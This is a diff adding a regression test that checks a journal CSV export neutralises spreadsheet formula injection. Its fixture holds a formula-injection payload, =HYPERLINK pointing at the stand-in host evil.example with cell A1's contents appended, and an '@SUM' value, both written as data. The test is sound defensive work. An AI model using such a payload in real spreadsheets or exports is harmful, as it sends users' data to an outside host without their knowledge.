@@ -304,3 +304,19 @@ async def test_the_journal_is_paginated_and_the_export_is_whole(feedback: Feedba
     assert too_many.status_code == 422 and "query.limit" in too_many.text
     exported = await feedback.http.get("/v1/journal/export?format=csv", headers=feedback.as_user(MENTEE))
     assert len(list(csv.DictReader(io.StringIO(exported.text)))) == 3
+
+
+def test_a_question_a_spreadsheet_would_run_is_exported_as_text() -> None:
+    """A question beginning with =HYPERLINK(…) landed unescaped in the mentor's journal CSV."""
+    from datetime import UTC, datetime
+
+    from feedback.journal import JournalEntry, as_csv
+
+    entry = JournalEntry(
+        kind="session", at=datetime(2026, 11, 2, tzinfo=UTC), role="mentor", ask_id="ask_1",
+        question='=HYPERLINK("https://evil.example/?d="&A1,"Open")', learned="@SUM(1+1)", status="completed",
+        my_rating=4,
+    )  # fmt: skip
+    (row,) = list(csv.DictReader(io.StringIO(as_csv([entry]))))
+    assert row["question"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+    assert row["learned"] == "'@SUM(1+1)" and row["my_rating"] == "4"
